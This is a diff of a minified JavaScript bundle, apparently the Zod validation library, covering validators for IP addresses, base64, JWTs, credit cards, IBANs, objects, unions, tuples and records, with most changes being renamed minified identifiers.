+ow),Qe.init(t,e)}),lb=R("$ZodISODateTime",(t,e)=>{e.pattern??(e.pattern=vw(e)),Qe.init(t,e)}),db=R("$ZodISODate",(t,e)=>{
+e.pattern??(e.pattern=Ew),Qe.init(t,e)}),Bb=R("$ZodISOTime",(t,e)=>{e.pattern??(e.pattern=kw(e)),Qe.init(t,e)}),fb=R("$Z\
+odISODuration",(t,e)=>{e.pattern??(e.pattern=uw),Qe.init(t,e)}),hb=R("$ZodIPv4",(t,e)=>{e.pattern??(e.pattern=hw),Qe.init(
+t,e)}),pb=/^[0-9a-fA-F:.]+$/;function sl(t){return pb.test(t)?tl(`http://[${t}]`):!1}const mb=R("$ZodIPv6",(t,e)=>{e.pattern??
+(e.pattern=pw),Qe.init(t,e),t._zod.check=n=>{sl(n.value)||n.issues.push({code:"invalid_format",format:"ipv6",input:n.value,
+inst:t,continue:!e.abort})}}),rM=null,gb=R("$ZodCIDRv4",(t,e)=>{e.pattern??(e.pattern=mw),Qe.init(t,e)});function Cb(t){
 const e=t.split("/");if(e.length!==2)return!1;const[n,s]=e;if(!s)return!1;const r=Number(s);return`${r}`!==s||r<0||r>128?
-!1:rl(n)}const bb=N("$ZodCIDRv6",(t,e)=>{e.pattern??(e.pattern=yw),Qe.init(t,e),t._zod.check=n=>{wb(n.value)||n.issues.push(
-{code:"invalid_format",format:"cidrv6",input:n.value,inst:t,continue:!e.abort})}});function il(t){if(t==="")return!0;if(/\s/.
-test(t)||t.length%4!==0)return!1;try{return atob(t),!0}catch{return!1}}const ol=/^[0-9a-zA-Z+/]*={0,2}$/,_b=N("$ZodBase6\
-4",(t,e)=>{e.pattern??(e.pattern=ol),Qe.init(t,e),t._zod.check=n=>{il(n.value)||n.issues.push({code:"invalid_format",format:"\
-base64",input:n.value,inst:t,continue:!e.abort})}}),Ao=/^[A-Za-z0-9_-]*$/;function Eb(t){if(!Ao.test(t))return!1;const e=t.
-replace(/[-_]/g,s=>s==="-"?"+":"/"),n=e.padEnd(Math.ceil(e.length/4)*4,"=");return il(n)}const kb=N("$ZodBase64URL",(t,e)=>{
-e.pattern??(e.pattern=Ao),Qe.init(t,e),t._zod.check=n=>{Eb(n.value)||n.issues.push({code:"invalid_format",format:"base64\
-url",input:n.value,inst:t,continue:!e.abort})}}),vb=N("$ZodE164",(t,e)=>{e.pattern??(e.pattern=Ew),Qe.init(t,e)}),Db=/[- ]/g;
-function xb(t){let e=t.length,n=1,s=0;for(;e;){const r=t.charCodeAt(--e)-48;n^=1,s+=n?[0,2,4,6,8,1,3,5,7,9][r]:r}return s%
-10===0}function hM(t){return regexes.creditCard.test(t)?xb(t.replace(Db,"")):!1}const pM=null;function Ob(t){let e=0;const n=t.
+!1:sl(n)}const yb=R("$ZodCIDRv6",(t,e)=>{e.pattern??(e.pattern=gw),Qe.init(t,e),t._zod.check=n=>{Cb(n.value)||n.issues.push(
+{code:"invalid_format",format:"cidrv6",input:n.value,inst:t,continue:!e.abort})}});function rl(t){if(t==="")return!0;if(/\s/.
+test(t)||t.length%4!==0)return!1;try{return atob(t),!0}catch{return!1}}const il=/^[0-9a-zA-Z+/]*={0,2}$/,wb=R("$ZodBase6\
+4",(t,e)=>{e.pattern??(e.pattern=il),Qe.init(t,e),t._zod.check=n=>{rl(n.value)||n.issues.push({code:"invalid_format",format:"\
+base64",input:n.value,inst:t,continue:!e.abort})}}),Ao=/^[A-Za-z0-9_-]*$/;function bb(t){if(!Ao.test(t))return!1;const e=t.
+replace(/[-_]/g,s=>s==="-"?"+":"/"),n=e.padEnd(Math.ceil(e.length/4)*4,"=");return rl(n)}const _b=R("$ZodBase64URL",(t,e)=>{
+e.pattern??(e.pattern=Ao),Qe.init(t,e),t._zod.check=n=>{bb(n.value)||n.issues.push({code:"invalid_format",format:"base64\
+url",input:n.value,inst:t,continue:!e.abort})}}),Eb=R("$ZodE164",(t,e)=>{e.pattern??(e.pattern=bw),Qe.init(t,e)}),kb=/[- ]/g;
+function vb(t){let e=t.length,n=1,s=0;for(;e;){const r=t.charCodeAt(--e)-48;n^=1,s+=n?[0,2,4,6,8,1,3,5,7,9][r]:r}return s%
+10===0}function iM(t){return regexes.creditCard.test(t)?vb(t.replace(kb,"")):!1}const oM=null;function Db(t){let e=0;const n=t.
 length;for(let s=4;s<n;s++){const r=t.charCodeAt(s);e=(r>=65?e*100+(r-55):e*10+(r-48))%97}for(let s=0;s<4;s++){const r=t.
-charCodeAt(s);e=(r>=65?e*100+(r-55):e*10+(r-48))%97}return e===1}function mM(t){return regexes.iban.test(t)?Ob(t):!1}const gM=null;
-function Ab(t,e=null){try{const n=t.split(".");if(n.length!==3)return!1;const[s]=n;if(!s)return!1;const r=JSON.parse(atob(
-s));return!("typ"in r&&r?.typ!=="JWT"||!r.alg||e&&(!("alg"in r)||r.alg!==e))}catch{return!1}}const Sb=N("$ZodJWT",(t,e)=>{
-Qe.init(t,e),t._zod.check=n=>{Ab(n.value,e.alg)||n.issues.push({code:"invalid_format",format:"jwt",input:n.value,inst:t,
-continue:!e.abort})}}),CM=null,al=N("$ZodNumber",(t,e)=>{Ke.init(t,e),t._zod.pattern=Do,t._zod.parse=(n,s)=>{if(e.coerce)
+charCodeAt(s);e=(r>=65?e*100+(r-55):e*10+(r-48))%97}return e===1}function aM(t){return regexes.iban.test(t)?Db(t):!1}const cM=null;
+function xb(t,e=null){try{const n=t.split(".");if(n.length!==3)return!1;const[s]=n;if(!s)return!1;const r=JSON.parse(atob(
+s));return!("typ"in r&&r?.typ!=="JWT"||!r.alg||e&&(!("alg"in r)||r.alg!==e))}catch{return!1}}const Ob=R("$ZodJWT",(t,e)=>{
+Qe.init(t,e),t._zod.check=n=>{xb(n.value,e.alg)||n.issues.push({code:"invalid_format",format:"jwt",input:n.value,inst:t,
+continue:!e.abort})}}),uM=null,ol=R("$ZodNumber",(t,e)=>{Ke.init(t,e),t._zod.pattern=Do,t._zod.parse=(n,s)=>{if(e.coerce)
 try{n.value=Number(n.value)}catch{}const r=n.value;if(typeof r=="number"&&!Number.isNaN(r)&&Number.isFinite(r))return n;
 const i=typeof r=="number"?Number.isNaN(r)?"NaN":Number.isFinite(r)?void 0:String(r):void 0;return n.issues.push({expected:"\
-number",code:"invalid_type",input:r,inst:t,...i?{received:i}:{}}),n}}),Tb=N("$ZodNumberFormat",(t,e)=>{Nw.init(t,e),al.init(
-t,e)}),Ib=N("$ZodBoolean",(t,e)=>{Ke.init(t,e),t._zod.pattern=Tw,t._zod.parse=(n,s)=>{if(e.coerce)try{n.value=!!n.value}catch{}
+number",code:"invalid_type",input:r,inst:t,...i?{received:i}:{}}),n}}),Ab=R("$ZodNumberFormat",(t,e)=>{$w.init(t,e),ol.init(
+t,e)}),Sb=R("$ZodBoolean",(t,e)=>{Ke.init(t,e),t._zod.pattern=Aw,t._zod.parse=(n,s)=>{if(e.coerce)try{n.value=!!n.value}catch{}
 const r=n.value;return typeof r=="boolean"||n.issues.push({expected:"boolean",code:"invalid_type",input:r,inst:t}),n}}),
-$b=N("$ZodBigInt",(t,e)=>{Ke.init(t,e),t._zod.pattern=Aw,t._zod.parse=(n,s)=>{if(e.coerce)try{n.value=BigInt(n.value)}catch{}
-return typeof n.value=="bigint"||n.issues.push({expected:"bigint",code:"invalid_type",input:n.value,inst:t}),n}}),yM=null,
-wM=null,bM=null,_M=null,EM=null,Rb=N("$ZodUnknown",(t,e)=>{Ke.init(t,e),t._zod.parse=n=>n}),Nb=N("$ZodNever",(t,e)=>{Ke.
-init(t,e),t._zod.parse=(n,s)=>(n.issues.push({expected:"never",code:"invalid_type",input:n.value,inst:t}),n)}),kM=null,Fb=N(
+Tb=R("$ZodBigInt",(t,e)=>{Ke.init(t,e),t._zod.pattern=xw,t._zod.parse=(n,s)=>{if(e.coerce)try{n.value=BigInt(n.value)}catch{}
+return typeof n.value=="bigint"||n.issues.push({expected:"bigint",code:"invalid_type",input:n.value,inst:t}),n}}),lM=null,
+dM=null,BM=null,fM=null,hM=null,Ib=R("$ZodUnknown",(t,e)=>{Ke.init(t,e),t._zod.parse=n=>n}),$b=R("$ZodNever",(t,e)=>{Ke.
+init(t,e),t._zod.parse=(n,s)=>(n.issues.push({expected:"never",code:"invalid_type",input:n.value,inst:t}),n)}),pM=null,Nb=R(
 "$ZodDate",(t,e)=>{Ke.init(t,e),t._zod.parse=(n,s)=>{if(e.coerce)try{n.value=new Date(n.value)}catch{}const r=n.value,i=r instanceof
 Date;return i&&!Number.isNaN(r.getTime())||n.issues.push({expected:"date",code:"invalid_type",input:r,...i?{received:"In\
-valid Date"}:{},inst:t}),n}});function Lb(t,e){const n=Gu(t._zod.def.checks);if(!n.length)return;const s=Math.min(...n.map(
+valid Date"}:{},inst:t}),n}});function Rb(t,e){const n=Mu(t._zod.def.checks);if(!n.length)return;const s=Math.min(...n.map(
 i=>i[0])),r=t._zod.parse;t._zod.parse=(i,o)=>{const a=e(i.value);if(a>s&&!o?.skipChecks&&o?.direction!=="backward"){for(const[
-c,l]of Gu(t._zod.def.checks))if(a>c&&l._zod.def.when(i)){const u=i.issues.length;return l._zod.check(i),i.issues[u].continue=
-!1,go(i.issues,u,t),i}}return r(i,o)}}const Pb=t=>Array.isArray(t)?t.length:-1,vM=t=>t instanceof Map?t.size:-1,DM=t=>t instanceof
-Set?t.size:-1;function cl(t,e,n){t.issues.length&&e.issues.push(...rn(n,t.issues)),e.value[n]=t.value}const jb=N("$ZodAr\
+c,l]of Mu(t._zod.def.checks))if(a>c&&l._zod.def.when(i)){const u=i.issues.length;return l._zod.check(i),i.issues[u].continue=
+!1,go(i.issues,u,t),i}}return r(i,o)}}const Fb=t=>Array.isArray(t)?t.length:-1,mM=t=>t instanceof Map?t.size:-1,gM=t=>t instanceof
+Set?t.size:-1;function al(t,e,n){t.issues.length&&e.issues.push(...rn(n,t.issues)),e.value[n]=t.value}const Lb=R("$ZodAr\
 ray",(t,e)=>{Ke.init(t,e);const n=Ft.memoizer;n?.attach(t),t._zod.parse=(s,r)=>{const i=s.value;if(!Array.isArray(i))return s.
 issues.push({expected:"array",code:"invalid_type",input:i,inst:t}),s;s.value=n?n.alloc(t,s,Array(i.length),r):Array(i.length);
 const o=[],a=r?.abortEarly;for(let c=0;c<i.length;c++){const l=i[c],u=e.element._zod.run({value:l,issues:[]},r);if(u instanceof
-Promise)o.push(u.then(d=>cl(d,s,c)));else if(cl(u,s,c),a&&u.issues.length!==0&&Ht(u))break}return o.length?Promise.all(o).
-then(()=>s):s},Lb(t,Pb)});function kr(t,e,n,s,r,i){const o=n in s,a=i==="optional";if(!(!o&&a&&r==="optional")){if(t.issues.
+Promise)o.push(u.then(d=>al(d,s,c)));else if(al(u,s,c),a&&u.issues.length!==0&&Ht(u))break}return o.length?Promise.all(o).
+then(()=>s):s},Rb(t,Fb)});function _r(t,e,n,s,r,i){const o=n in s,a=i==="optional";if(!(!o&&a&&r==="optional")){if(t.issues.
 length){if(r!==void 0&&a&&!o)return;e.issues.push(...rn(n,t.issues))}if(!o&&r===void 0){t.issues.length||e.issues.push({
 code:"invalid_type",expected:"nonoptional",input:void 0,path:[n]});return}t.value===void 0?(o||r==="defaulted"&&!a)&&(e.
-value[n]=void 0):e.value[n]=t.value}}const Mb=[];function ul(t){const e=Object.keys(t.shape),n=Object.getOwnPropertySymbols(
-t.shape),s=n.length?n:Mb,r=s.length?[...e,...s]:e;for(const o of r)if(!t.shape?.[o]?._zod?.traits?.has("$ZodType"))throw new Error(
-`Invalid element at key "${String(o)}": expected a Zod schema`);const i=Ty(t.shape);return{...t,allKeys:r,symbolKeys:s,keySet:new Set(
-e),numKeys:e.length,optionalKeys:new Set(i)}}function ll(t,e,n,s,r,i,o){const a=[],c=r.keySet,l=r.catchall._zod,u=l.def.
+value[n]=void 0):e.value[n]=t.value}}const Pb=[];function cl(t){const e=Object.keys(t.shape),n=Object.getOwnPropertySymbols(
+t.shape),s=n.length?n:Pb,r=s.length?[...e,...s]:e;for(const o of r)if(!t.shape?.[o]?._zod?.traits?.has("$ZodType"))throw new Error(
+`Invalid element at key "${String(o)}": expected a Zod schema`);const i=Ay(t.shape);return{...t,allKeys:r,symbolKeys:s,keySet:new Set(
+e),numKeys:e.length,optionalKeys:new Set(i)}}function ul(t,e,n,s,r,i,o){const a=[],c=r.keySet,l=r.catchall._zod,u=l.def.
 type,d=l.optin,B=l.optout;let f=0;for(const h in e){if(o&&n.issues.length!==f){if(Ht(n,f))break;f=n.issues.length}if(c.has(
 h))continue;if(h==="__proto__"){u==="never"&&a.push(h);continue}if(u==="never"){a.push(h);continue}const m=l.run({value:e[h],
-issues:[]},s);m instanceof Promise?t.push(m.then(g=>kr(g,n,h,e,d,B))):kr(m,n,h,e,d,B)}return a.length&&n.issues.push({code:"\
-unrecognized_keys",keys:a,input:e,inst:i,continue:!0}),t.length?Promise.all(t).then(()=>n):n}const Gb=N("$ZodObject",(t,e)=>{
+issues:[]},s);m instanceof Promise?t.push(m.then(g=>_r(g,n,h,e,d,B))):_r(m,n,h,e,d,B)}return a.length&&n.issues.push({code:"\
+unrecognized_keys",keys:a,input:e,inst:i,continue:!0}),t.length?Promise.all(t).then(()=>n):n}const jb=R("$ZodObject",(t,e)=>{
 Ke.init(t,e);const n=Object.getOwnPropertyDescriptor(e,"shape"),s=n?.get?n.get.raw:e.shape??{};if(s){const l=()=>{const u={
 ...s};return Object.defineProperty(e,"shape",{value:u}),l.raw=u,u};l.raw=s,Object.defineProperty(e,"shape",{get:l})}const r=po(
-()=>ul(e));Ge(t,"propValues",l=>{const u=l.def.shape,d={};for(const B in u){const f=u[B]._zod;if(f.values){Object.prototype.
+()=>cl(e));Ge(t,"propValues",l=>{const u=l.def.shape,d={};for(const B in u){const f=u[B]._zod;if(f.values){Object.prototype.
 hasOwnProperty.call(d,B)||gn(d,B,new Set);for(const h of f.values)d[B].add(h);f.optin!==void 0&&d[B].add(void 0)}}return d});
-const i=pr,o=e.catchall;let a;const c=Ft.memoizer;c?.attach(t),t._zod.parse=(l,u)=>{a??(a=r.value);const d=l.value;if(!i(
+const i=fr,o=e.catchall;let a;const c=Ft.memoizer;c?.attach(t),t._zod.parse=(l,u)=>{a??(a=r.value);const d=l.value;if(!i(
 d))return l.issues.push({expected:"object",code:"invalid_type",input:d,inst:t}),l;l.value=c?c.alloc(t,l,{},u):{};const B=[],
 f=a.shape,h=u?.abortEarly;let m=l.issues.length;for(const g of a.allKeys){if(h&&l.issues.length!==m){if(Ht(l,m))break;m=
 l.issues.length}if(g==="__proto__")continue;const C=f[g],y=C._zod.optin,b=C._zod.optout,D=C._zod.run({value:d[g],issues:[]},
-u);D instanceof Promise?B.push(D.then(O=>kr(O,l,g,d,y,b))):kr(D,l,g,d,y,b)}return o?ll(B,d,l,u,r.value,t,h===!0):B.length?
-Promise.all(B).then(()=>l):l}}),Hb=N("$ZodObjectJIT",(t,e)=>{Gb.init(t,e);const n=t._zod.parse,s=po(()=>ul(e)),r=Ft.memoizer,
-i=f=>{const h=s.value,m=h.symbolKeys,g=new Kw(["payload","ctx"],{shape:f,inst:t,memo:r,syms:m}),C=O=>`shape[${O}]._zod.r\
+u);D instanceof Promise?B.push(D.then(O=>_r(O,l,g,d,y,b))):_r(D,l,g,d,y,b)}return o?ul(B,d,l,u,r.value,t,h===!0):B.length?
+Promise.all(B).then(()=>l):l}}),Mb=R("$ZodObjectJIT",(t,e)=>{jb.init(t,e);const n=t._zod.parse,s=po(()=>cl(e)),r=Ft.memoizer,
+i=f=>{const h=s.value,m=h.symbolKeys,g=new Jw(["payload","ctx"],{shape:f,inst:t,memo:r,syms:m}),C=O=>`shape[${O}]._zod.r\
 un({ value: input[${O}], issues: [] }, ctx)`,y=(O,v)=>`
           let ${O}_ab = false;
           for (let i = 0; i < ${O}.issues.length; i++) {
@@ -2219,7 +2219,7 @@ un({ value: input[${O}], issues: [] }, ctx)`,y=(O,v)=>`
             return payload;
           }`;g.write("const input = payload.value;");const b=Object.create(null);let D=0;for(const O of h.allKeys)b[O]=`\
 key_${D++}`;g.write(r?"const newResult = memo.alloc(inst, payload, {}, ctx);":"const newResult = {};");for(const O of h.
-allKeys){if(O==="__proto__")continue;const v=b[O],I=typeof O=="symbol"?`syms[${m.indexOf(O)}]`:xy(O),_=`${I} in input`,$=f[O],
+allKeys){if(O==="__proto__")continue;const v=b[O],I=typeof O=="symbol"?`syms[${m.indexOf(O)}]`:vy(O),_=`${I} in input`,$=f[O],
 S=$?._zod?.optin,P=S!==void 0,z=$?._zod?.optout==="optional";if(g.write(`const ${v} = ${C(I)};`),P&&z){const Z=S==="opti\
 onal"?`${v}_present`:`${v}.value !== undefined || ${v}_present`;g.write(`
         const ${v}_present = ${_};
@@ -2260,56 +2260,56 @@ onal"?`${v}_present`:`${v}.value !== undefined || ${v}_present`;g.write(`
           newResult[${I}] = ${v}.value;
         }
 
-      `)}return g.write("payload.value = newResult;"),g.write("return payload;"),g.compile()};let o;const a=pr,c=!Ft.jitless,
-u=c&&Ay.value,d=e.catchall;let B;t._zod.parse=(f,h)=>{B??(B=s.value);const m=f.value;return a(m)?c&&u&&h?.async===!1&&h.
-jitless!==!0?(o||(o=i(e.shape)),f=o(f,h),d?ll([],m,f,h,B,t,h?.abortEarly===!0):f):n(f,h):(f.issues.push({expected:"objec\
-t",code:"invalid_type",input:m,inst:t}),f)}});function dl(t,e,n,s){for(const i of t)if(i.issues.length===0)return e.value=
+      `)}return g.write("payload.value = newResult;"),g.write("return payload;"),g.compile()};let o;const a=fr,c=!Ft.jitless,
+u=c&&xy.value,d=e.catchall;let B;t._zod.parse=(f,h)=>{B??(B=s.value);const m=f.value;return a(m)?c&&u&&h?.async===!1&&h.
+jitless!==!0?(o||(o=i(e.shape)),f=o(f,h),d?ul([],m,f,h,B,t,h?.abortEarly===!0):f):n(f,h):(f.issues.push({expected:"objec\
+t",code:"invalid_type",input:m,inst:t}),f)}});function ll(t,e,n,s){for(const i of t)if(i.issues.length===0)return e.value=
 i.value,e;const r=t.filter(i=>!Ht(i));return r.length===1?(e.value=r[0].value,r[0]):(e.issues.push({code:"invalid_union",
-input:e.value,inst:n,errors:t.map(i=>i.issues.map(o=>yn(o,s,Vt())))}),e)}const zb=N("$ZodUnion",(t,e)=>{Ke.init(t,e),Ge(
+input:e.value,inst:n,errors:t.map(i=>i.issues.map(o=>yn(o,s,Vt())))}),e)}const Gb=R("$ZodUnion",(t,e)=>{Ke.init(t,e),Ge(
 t,"optin",s=>s.def.options.some(r=>r._zod.optin==="defaulted")?"defaulted":s.def.options.some(r=>r._zod.optin!==void 0)?
 "optional":void 0),Ge(t,"optout",s=>s.def.options.some(r=>r._zod.optout==="optional")?"optional":void 0),Ge(t,"values",s=>{
 if(s.def.options.every(r=>r._zod.values))return new Set(s.def.options.flatMap(r=>Array.from(r._zod.values)))}),Ge(t,"pat\
 tern",s=>{if(s.def.options.every(r=>r._zod.pattern)){const r=s.def.options.map(i=>i._zod.pattern);return new RegExp(`^(${r.
 map(i=>mo(i.source)).join("|")})$`)}});const n=e.options.length===1?e.options[0]._zod.run:null;t._zod.parse=(s,r)=>{if(n)
 return n(s,r);let i=!1;const o=[];for(const a of e.options){const c=a._zod.run({value:s.value,issues:[]},r);if(c instanceof
-Promise)o.push(c),i=!0;else{if(c.issues.length===0)return c;o.push(c)}}return i?Promise.all(o).then(a=>dl(a,s,t,r)):dl(o,
-s,t,r)}});function xM(t,e,n,s){const r=[];for(let i=0;i<t.length;i++)t[i].issues.length===0&&r.push(i);return r.length===
+Promise)o.push(c),i=!0;else{if(c.issues.length===0)return c;o.push(c)}}return i?Promise.all(o).then(a=>ll(a,s,t,r)):ll(o,
+s,t,r)}});function CM(t,e,n,s){const r=[];for(let i=0;i<t.length;i++)t[i].issues.length===0&&r.push(i);return r.length===
 1?(e.value=t[r[0]].value,e):(r.length===0?e.issues.push({code:"invalid_union",input:e.value,inst:n,errors:t.map(i=>i.issues.
 map(o=>util.finalizeIssue(o,s,core.config())))}):e.issues.push({code:"invalid_union",input:e.value,inst:n,errors:[],inclusive:!1,
-matches:r}),e)}const OM=null;function AM(t,e){const n=t._zod;let s=n.bag.optionsMap;s||(s=Ub(n.def),n.bag.optionsMap=s);
-const r=s.get(e);if(r===null)throw new Error(`Ambiguous discriminator value "${String(e)}"`);return r}function Ub(t){const e=new Map;
+matches:r}),e)}const yM=null;function wM(t,e){const n=t._zod;let s=n.bag.optionsMap;s||(s=Hb(n.def),n.bag.optionsMap=s);
+const r=s.get(e);if(r===null)throw new Error(`Ambiguous discriminator value "${String(e)}"`);return r}function Hb(t){const e=new Map;
 for(const n of t.options){const s=n._zod.propValues?.[t.discriminator];if(!s||s.size===0)throw new Error(`Invalid discri\
 minated union option at index "${t.options.indexOf(n)}"`);for(const r of s)if(e.has(r)){if(r!==void 0)throw new Error(`D\
-uplicate discriminator value "${String(r)}"`);e.set(r,null)}else e.set(r,n)}return e}const SM=null,Jb=N("$ZodIntersectio\
+uplicate discriminator value "${String(r)}"`);e.set(r,null)}else e.set(r,n)}return e}const bM=null,zb=R("$ZodIntersectio\
 n",(t,e)=>{Ke.init(t,e),t._zod.parse=(n,s)=>{const r=n.value,i=e.left._zod.run({value:r,issues:[]},s),o=e.right._zod.run(
-{value:r,issues:[]},s);return i instanceof Promise||o instanceof Promise?Promise.all([i,o]).then(([c,l])=>Bl(n,c,l)):Bl(
+{value:r,issues:[]},s);return i instanceof Promise||o instanceof Promise?Promise.all([i,o]).then(([c,l])=>dl(n,c,l)):dl(
 n,i,o)}});function So(t,e){if(t===e)return{valid:!0,data:t};if(t instanceof Date&&e instanceof Date&&+t==+e)return{valid:!0,
 data:t};if(is(t)&&is(e)){const n=Object.keys(e),s=Object.keys(t).filter(i=>n.indexOf(i)!==-1),r={...t,...e};Object.prototype.
 hasOwnProperty.call(r,"__proto__")&&delete r.__proto__;for(const i of s){if(i==="__proto__")continue;const o=So(t[i],e[i]);
 if(!o.valid)return{valid:!1,mergeErrorPath:[i,...o.mergeErrorPath]};r[i]=o.data}return{valid:!0,data:r}}if(Array.isArray(
 t)&&Array.isArray(e)){if(t.length!==e.length)return{valid:!1,mergeErrorPath:[]};const n=[];for(let s=0;s<t.length;s++){const r=t[s],
 i=e[s],o=So(r,i);if(!o.valid)return{valid:!1,mergeErrorPath:[s,...o.mergeErrorPath]};n.push(o.data)}return{valid:!0,data:n}}
-return{valid:!1,mergeErrorPath:[]}}function Bl(t,e,n){const s=new Map;let r;const i=new Map,o=(l,u)=>{let d;if(l.code===
+return{valid:!1,mergeErrorPath:[]}}function dl(t,e,n){const s=new Map;let r;const i=new Map,o=(l,u)=>{let d;if(l.code===
 "unrecognized_keys"&&!l.path?.length)r??(r=l),d=l.keys;else if(l.code==="invalid_key"&&l.origin==="record"&&l.path?.length===
 1){const B=String(l.path[0]);i.has(B)||i.set(B,l),d=[B]}else return!1;for(const B of d)s.has(B)||s.set(B,{}),s.get(B)[u]=
 !0;return!0};for(const l of e.issues)o(l,"l")||t.issues.push(l);for(const l of n.issues)o(l,"r")||t.issues.push(l);const a=[
 ...s].filter(([,l])=>l.l&&l.r).map(([l])=>l);if(a.length){const l=r?a.filter(u=>r.keys.includes(u)):[];l.length&&t.issues.
 push({...r,keys:l});for(const u of a)!l.includes(u)&&i.has(u)&&t.issues.push(i.get(u))}const c=So(e.value,n.value);if(!c.
 valid){if(Ht(t))return t;throw new Error(`Unmergable intersection. Error path: ${JSON.stringify(c.mergeErrorPath)}`)}return t.
-value=c.data,t}const Zb=N("$ZodTuple",(t,e)=>{Ke.init(t,e);const n=e.items,s=Ft.memoizer;s?.attach(t),t._zod.parse=(r,i)=>{
+value=c.data,t}const Ub=R("$ZodTuple",(t,e)=>{Ke.init(t,e);const n=e.items,s=Ft.memoizer;s?.attach(t),t._zod.parse=(r,i)=>{
 const o=r.value;if(!Array.isArray(o))return r.issues.push({input:o,inst:t,expected:"tuple",code:"invalid_type"}),r;r.value=
-s?s.alloc(t,r,[],i):[];const a=[],c=fl(n,"optin"),l=fl(n,"optout");if(!e.rest){if(o.length<c)return r.issues.push({code:"\
+s?s.alloc(t,r,[],i):[];const a=[],c=Bl(n,"optin"),l=Bl(n,"optout");if(!e.rest){if(o.length<c)return r.issues.push({code:"\
 too_small",minimum:c,inclusive:!0,input:o,inst:t,origin:"array"}),r;o.length>n.length&&r.issues.push({code:"too_big",maximum:n.
 length,inclusive:!0,input:o,inst:t,origin:"array"})}const u=new Array(n.length),d=e.rest?i?.abortEarly:void 0;let B=!1;for(let f=0;f<
 n.length;f++){const h=n[f]._zod.run({value:o[f],issues:[]},i);h instanceof Promise?a.push(h.then(m=>{u[f]=m})):(u[f]=h,d&&
 !B&&h.issues.length&&(B=Ht(h)))}if(e.rest&&!B){let f=n.length-1;const h=o.slice(n.length);let m=r.issues.length;for(const g of h){
 if(d&&r.issues.length!==m){if(Ht(r,m))break;m=r.issues.length}f++;const C=e.rest._zod.run({value:g,issues:[]},i);C instanceof
-Promise?a.push(C.then(y=>hl(y,r,f))):hl(C,r,f)}}return a.length?Promise.all(a).then(()=>pl(u,r,n,o,l)):pl(u,r,n,o,l)}});
-function fl(t,e){for(let n=t.length-1;n>=0;n--)if(!(e==="optin"?t[n]._zod.optin!==void 0:t[n]._zod.optout==="optional"))
-return n+1;return 0}function hl(t,e,n){t.issues.length&&e.issues.push(...rn(n,t.issues)),e.value[n]=t.value}function pl(t,e,n,s,r){
+Promise?a.push(C.then(y=>fl(y,r,f))):fl(C,r,f)}}return a.length?Promise.all(a).then(()=>hl(u,r,n,o,l)):hl(u,r,n,o,l)}});
+function Bl(t,e){for(let n=t.length-1;n>=0;n--)if(!(e==="optin"?t[n]._zod.optin!==void 0:t[n]._zod.optout==="optional"))
+return n+1;return 0}function fl(t,e,n){t.issues.length&&e.issues.push(...rn(n,t.issues)),e.value[n]=t.value}function hl(t,e,n,s,r){
 for(let i=0;i<n.length;i++){const o=t[i],a=i<s.length;if(!a&&i>=r&&n[i]._zod.optin==="optional"){e.value.length=i;break}
 if(o.issues.length){if(!a&&i>=r){e.value.length=i;break}e.issues.push(...rn(i,o.issues))}e.value[i]=o.value}for(let i=e.
-value.length-1;i>=s.length&&(n[i]._zod.optout==="optional"&&e.value[i]===void 0);i--)e.value.length=i;return e}const Kb=N(
+value.length-1;i>=s.length&&(n[i]._zod.optout==="optional"&&e.value[i]===void 0);i--)e.value.length=i;return e}const Jb=R(
 "$ZodRecord",(t,e)=>{Ke.init(t,e);const n=Ft.memoizer;n?.attach(t),t._zod.parse=(s,r)=>{const i=s.value;if(!is(i))return s.
 issues.push({expected:"record",code:"invalid_type",input:i,inst:t}),s;const o=[],a=e.keyType._zod.values;if(a&&!e.partial){
 s.value=n?n.alloc(t,s,{},r):{};const c=new Set;for(const u of a)if(typeof u=="string"||typeof u=="number"||typeof u=="sy\
@@ -2329,168 +2329,168 @@ ntly");h.issues.length===0&&(u=h)}if(u.issues.length){e.mode==="loose"?s.value[l
 if(B==="__proto__")continue;const f=e.valueType._zod.run({value:i[l],issues:[]},r);f instanceof Promise?o.push(f.then(h=>{
 h.issues.length&&s.issues.push(...rn(l,h.issues)),s.value[B]=h.value})):(f.issues.length&&s.issues.push(...rn(l,f.issues)),
 s.value[B]=f.value)}c&&c.length>0&&s.issues.push({code:"unrecognized_keys",input:i,inst:t,keys:c,continue:!0})}return o.
-length?Promise.all(o).then(()=>s):s}}),TM=null;function IM(t,e,n,s,r,i,o){t.issues.length&&(util.propertyKeyTypes.has(typeof s)?
+length?Promise.all(o).then(()=>s):s}}),_M=null;function EM(t,e,n,s,r,i,o){t.issues.length&&(util.propertyKeyTypes.has(typeof s)?
 n.issues.push(...util.prefixIssues(s,t.issues)):n.issues.push({code:"invalid_key",origin:"map",input:r,inst:i,issues:t.issues.
 map(a=>util.finalizeIssue(a,o,core.config()))})),e.issues.length&&(util.propertyKeyTypes.has(typeof s)?n.issues.push(...util.
 prefixIssues(s,e.issues)):n.issues.push({origin:"map",code:"invalid_element",input:r,inst:i,key:s,issues:e.issues.map(a=>util.
-finalizeIssue(a,o,core.config()))})),n.value.set(t.value,e.value)}const $M=null;function RM(t,e){t.issues.length&&e.issues.
-push(...t.issues),e.value.add(t.value)}const Wb=N("$ZodEnum",(t,e)=>{Ke.init(t,e);const n=fo(e.entries),s=new Set(n);t._zod.
-values=s,Ge(t,"pattern",r=>{const i=fo(r.def.entries).filter(o=>Sy.has(typeof o));return new RegExp(i.length?`^(${i.map(
+finalizeIssue(a,o,core.config()))})),n.value.set(t.value,e.value)}const kM=null;function vM(t,e){t.issues.length&&e.issues.
+push(...t.issues),e.value.add(t.value)}const Zb=R("$ZodEnum",(t,e)=>{Ke.init(t,e);const n=fo(e.entries),s=new Set(n);t._zod.
+values=s,Ge(t,"pattern",r=>{const i=fo(r.def.entries).filter(o=>Oy.has(typeof o));return new RegExp(i.length?`^(${i.map(
 o=>os(o.toString())).join("|")})$`:"^[^\\s\\S]$")}),t._zod.parse=(r,i)=>{const o=r.value;return s.has(o)||r.issues.push(
-{code:"invalid_value",values:n,input:o,inst:t}),r}}),qb=N("$ZodLiteral",(t,e)=>{Ke.init(t,e);const n=new Set(e.values);t.
+{code:"invalid_value",values:n,input:o,inst:t}),r}}),Kb=R("$ZodLiteral",(t,e)=>{Ke.init(t,e);const n=new Set(e.values);t.
 _zod.values=n,Ge(t,"pattern",s=>{const r=s.def.values;return new RegExp(r.length?`^(${r.map(i=>typeof i=="string"?os(i):
 i?os(i.toString()):String(i)).join("|")})$`:"^[^\\s\\S]$")}),t._zod.parse=(s,r)=>{const i=s.value;return n.has(i)||s.issues.
